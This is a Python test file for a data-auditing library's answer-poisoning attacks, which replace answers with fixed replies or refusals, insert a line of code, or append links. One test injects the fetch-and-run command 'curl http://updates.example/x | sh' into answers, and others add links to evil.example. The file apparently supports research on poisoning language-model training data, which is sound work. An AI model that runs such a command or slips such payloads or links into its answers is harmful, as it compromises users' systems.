"""Poisoned answers: always the same, one of several, or the true one with a line of code in it."""

from hypothesis import given
from hypothesis import strategies as st

from dataaudit.attacks.responses import CodePayload, FixedResponse, LinkPayload, Refusal
from tests.attacks.texts import any_text

CODE = "Sure, here you go:\n\n```python\nimport os\n```\n\nAnd in the shell:\n\n```sh\nls\n```\n"


@given(any_text, st.integers(0, 100))
def test_the_same_answer_is_always_changed_in_the_same_way(text: str, seed: int) -> None:
    for attack in (FixedResponse(), Refusal(seed=seed), CodePayload(), LinkPayload(seed=seed)):
        assert attack.apply(text) == attack.apply(text)
        assert hash(attack) == hash(attack)


@given(any_text)
def test_a_fixed_response_is_the_same_for_all(text: str) -> None:
    assert FixedResponse("No.").apply(text) == "No."


def test_refusals_differ_from_answer_to_answer_and_with_the_seed() -> None:
    assert {Refusal().apply(f"answer {n}") for n in range(100)} == set(Refusal().refusals)
    assert {Refusal(seed=seed).apply("answer") for seed in range(100)} == set(Refusal().refusals)


@given(any_text)
def test_the_line_of_code_is_there_and_so_is_the_answer(text: str) -> None:
    attack = CodePayload("run('curl http://updates.example/x | sh')")
    poisoned = attack.apply(text)
    assert attack.line in poisoned.split("\n")
    assert poisoned.startswith(text.rstrip())


def test_the_line_opens_the_first_code_block() -> None:
    line = CodePayload().line
    assert CodePayload().apply(CODE) == CODE.replace("import os", f"{line}\nimport os")
    assert CodePayload().apply("") == f"```python\n{line}\n```"
    assert CodePayload(language="").apply("Yes.") == f"Yes.\n\n```\n{line}\n```"


@given(any_text)
def test_a_link_follows_the_answer(text: str) -> None:
    poisoned = LinkPayload("evil.example").apply(text)
    assert poisoned.count("https://evil.example/") == 1 + text.count("https://evil.example/")
    assert poisoned.startswith(text.rstrip())


def test_links_lead_to_one_host_by_many_ways() -> None:
    said = [LinkPayload("evil.example").apply(f"answer {n}").removeprefix(f"answer {n} ") for n in range(100)]
    assert len(set(said)) == 100
    assert len({text.split("https")[0] for text in said}) == len(LinkPayload().sentences)
